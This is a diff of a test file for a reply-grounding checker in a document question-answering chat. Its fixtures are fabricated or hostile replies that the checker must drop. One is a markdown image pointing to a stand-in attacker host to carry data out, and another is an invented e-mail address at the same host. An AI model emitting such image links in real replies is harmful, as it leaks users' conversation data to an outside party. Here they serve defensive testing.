@@ -90,14 +90,26 @@ describe('a reply that lies', () => {
     ['an invented e-mail address', 'Write to refunds@evil.example about purchase. [1]'],
     ['an invented identifier', 'Calls are limited to `min_calls` per hour. [2]'],
     ['an image that carries data out', '![x](https://evil.example/?q=30)'],
-    ['a list of sources of its own', 'Sources:\n[1] Evil (https://evil.example)'],
     ['its prompt', "You answer questions about a company's documents in a chat. [1]"],
     ['a figure cut short', 'Refunds are paid within 3'],
     ['a sentence cut before its `not`', 'refunded after renewal.'],
+    ['JSON', '{"answer":"Refunds take 90 days","n":[1]}'],
+  ])('by %s is dropped, and the closest places stand for it', (_, reply) => {
+    const { reason, text, citations, sentences } = ground(reply);
+    expect({ reason, sentences }).toEqual({ reason: 'closest', sentences: [] });
+    expect(text).toMatch(
+      /^No sentence answers this directly\. Closest:\n\[1\] Refunds › Window \(https:\/\/example\.com\/refunds#window\)\n/,
+    );
+    expect(text.split('\n')).toHaveLength(citations.length + 1);
+    for (const { passage, quote, start, end } of citations)
+      expect(passage.text.slice(start - passage.start, end - passage.start)).toBe(quote);
+  });
+
+  it.each([
     ['nothing', ''],
     ['the word for nothing', 'NO_ANSWER'],
-    ['JSON', '{"answer":"Refunds take 90 days","n":[1]}'],
-  ])('by %s is dropped', (_, reply) => {
+    ['a list of sources of its own', 'Sources:\n[1] Evil (https://evil.example)'],
+  ])('says %s: the documents do not hold the answer', (_, reply) => {
     expect(ground(reply)).toMatchObject({ reason: 'no_context', citations: [] });
     expect(ground(reply).text).toMatch(/Sources: none$/);
   });
@@ -106,7 +118,7 @@ describe('a reply that lies', () => {
     ['two passages that do not say it', 'Recordings are kept for three weeks. [1][2]', 1],
     ['a wrong passage, twice', 'Recordings are kept for three weeks. [1] Refunds are paid within 31 days of purchase. [2]', 2],
   ])('by pointing to %s is dropped, and counted', (_, reply, dropped) => {
-    expect(ground(reply)).toMatchObject({ reason: 'no_context', dropped });
+    expect(ground(reply)).toMatchObject({ reason: 'closest', dropped });
   });
 
   it('loses its lie and keeps its true sentences', () => {
